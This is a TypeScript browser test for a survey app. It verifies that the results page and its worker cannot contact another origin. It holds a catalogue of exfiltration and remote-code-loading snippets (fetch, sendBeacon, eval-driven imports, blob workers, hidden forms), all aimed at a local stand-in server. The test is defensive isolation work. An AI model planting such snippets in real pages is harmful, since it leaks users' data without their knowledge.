import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { silenced } from '../../src/engine/quietWorker';
import { browserPath } from './browser';
import { openFile, showResults } from './importSteps';
import { ownSurvey } from './ownSurvey';
import { siteInBrowser } from './siteInBrowser';

/** Every way that code in a page or a worker has to send something to another origin, as a body that may await. */
const waysOut: Readonly<Record<string, string>> = {
  fetch: "await fetch(to + 'fetch', { method: 'POST', mode: 'no-cors', body: 'answers' })",
  XMLHttpRequest:
    "const r = new XMLHttpRequest(); r.open('POST', to + 'xhr'); r.send('answers'); await new Promise((done) => { r.onloadend = done; })",
  WebSocket:
    "const s = new WebSocket(to.replace('http', 'ws') + 'socket'); await new Promise((done) => { s.onerror = s.onopen = done; })",
  EventSource:
    "const s = new EventSource(to + 'events'); await new Promise((done) => { s.onerror = s.onopen = done; })",
  WebTransport: "await new WebTransport(to.replace('http:', 'https:') + 'transport').ready",
  sendBeacon: "navigator.sendBeacon(to + 'beacon', 'answers')",
  importScripts: "importScripts(to + 'scripts.js')",
  import: "await import(to + 'module.js')",
  evaluated: "await (0, eval)('import(' + JSON.stringify(to + 'eval.js') + ')')",
  constructed: "await new Function('to', 'return import(to)')(to + 'function.js')",
  nestedWorker:
    "const code = 'fetch(' + JSON.stringify(to + 'nested') + ')'; new Worker(URL.createObjectURL(new Blob([code])))",
  workerElsewhere: "new Worker(to + 'worker.js')",
  image: "const i = new Image(); i.src = to + 'image.png'; await i.decode()",
  font: "const f = new FontFace('x', 'url(' + to + 'font.woff2)'); await f.load()",
  style:
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + 'style.css'; document.head.append(l)",
  prefetch:
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + 'prefetch'; document.head.append(l)",
  script:
    "const s = document.createElement('script'); s.src = to + 'script.js'; document.head.append(s)",
  frame:
    "const f = document.createElement('iframe'); f.src = to + 'frame'; document.body.append(f)",
  object:
    "const o = document.createElement('object'); o.data = to + 'object'; document.body.append(o)",
  video: "const v = document.createElement('video'); v.src = to + 'video'; v.load()",
  form: "const f = document.createElement('form'); f.action = to + 'form'; f.method = 'POST'; f.target = '_self'; document.body.append(f); f.submit()",
};

describe.runIf(browserPath)('a survey that is open', () => {
  const site = siteInBrowser();
  const arrived: string[] = [];
  const elsewhere = createServer((request, response) => {
    arrived.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });

  beforeAll(async () => {
    await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done));
  });
  afterAll(async () => {
    elsewhere.close();
  });

  /** Tries every way; what arrives elsewhere is what counts. */
  async function tryAll(where: Pick<Page, 'evaluate'> | Pick<Worker, 'evaluate'>): Promise<void> {
    const to = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
    for (const [name, body] of Object.entries(waysOut)) {
      const run = `(async (to) => { ${body} })(${JSON.stringify(`${to}${name}/`)})`;
      const outcome = `Promise.race([${run}.then(() => 'ran', (error) => String(error)), new Promise((done) => setTimeout(done, 1500, 'no answer'))])`;
      await (where as Page).evaluate(outcome).catch(() => undefined);
    }
  }

  it('has no way to another origin, from the page or from the worker that holds it', async () => {
    const page = await site.browser.newPage();
    const started = page.waitForEvent('worker', (worker) => worker.url().startsWith('blob:'));
    await page.goto(`${site.url}#/import`);
    await openFile(page, ownSurvey);
    await showResults(page);
    await page.getByRole('heading', { level: 1, name: /concerned/ }).waitFor();
    const worker = await started;
    const left = await worker.evaluate(
      (names) => names.filter((name) => Reflect.get(self, name) !== undefined),
      [...silenced],
    );
    expect(left).toEqual([]);
    await tryAll(worker);
    await tryAll(page);
    expect(arrived).toEqual([]);
    await page.close();
  });

  it('would have been heard of by the test: from a page without the policy a request arrives', async () => {
    const page = await site.browser.newPage();
    await page.goto(`${site.url}icons/divario.svg`);
    await tryAll(page);
    expect(arrived.length).toBeGreaterThan(5);
    await page.close();
  });
});
